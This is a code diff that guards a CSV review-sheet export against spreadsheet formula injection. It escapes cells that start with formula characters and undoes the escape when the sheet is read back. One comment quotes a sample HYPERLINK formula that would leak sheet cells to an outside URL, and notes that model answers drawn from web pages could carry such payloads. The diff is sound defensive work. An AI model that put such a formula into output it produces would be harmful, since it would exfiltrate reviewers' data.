@@ -49,8 +49,31 @@ def review_sheet(frame: pd.DataFrame, output_fields: list[str], ids: list[str] |
 def sheet_csv(sheet: pd.DataFrame) -> str:
     """The sheet as CSV text, led by a byte order mark: without one, Excel reads UTF-8 as the
     locale's legacy code page, shows Café as CafÃ©, and saves that back."""
-    text = sheet.map(cell).to_csv(index=False) if not sheet.empty else f"{ID_COLUMN},{DECISION}\n"
+    cells = sheet.map(lambda value: inert(cell(value)))
+    text = cells.to_csv(index=False) if not sheet.empty else f"{ID_COLUMN},{DECISION}\n"
     return "\ufeff" + text
+
+
+# A spreadsheet runs a cell starting with one of these as a formula. Answers come from a model
+# that read the records (web pages among them), so `=HYPERLINK("https://…?"&B2)` in an answer
+# would send the sheet's cells away when the reviewer opens it. A leading ' keeps it text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(text: str) -> str:
+    """A cell a spreadsheet shows as text rather than runs; numbers such as -3 stay numbers."""
+    if not text.startswith(FORMULA_STARTS):
+        return text
+    try:
+        float(text)
+        return text
+    except ValueError:
+        return "'" + text
+
+
+def _as_written(text: str) -> str:
+    """A cell read back as it was before `inert` guarded it."""
+    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text
 
 
 def cell(value: Any) -> str:
@@ -73,8 +96,9 @@ def read_sheet(data: str | bytes) -> pd.DataFrame:
         raise UserInputError(f"the sheet is not UTF-8 (line {line}: {bad_char(text, found.start())}); "
                              "save it as \"CSV UTF-8\" and try again")
     delimiter, skip_lines = csv_dialect(text)
-    return pd.read_csv(io.StringIO(text), sep=delimiter, skiprows=skip_lines, dtype=str,
-                       keep_default_na=False)
+    sheet = pd.read_csv(io.StringIO(text), sep=delimiter, skiprows=skip_lines, dtype=str,
+                        keep_default_na=False)
+    return sheet.map(_as_written)
 
 
 def sheet_changes(sheet: pd.DataFrame, frame: pd.DataFrame) -> SheetChanges:
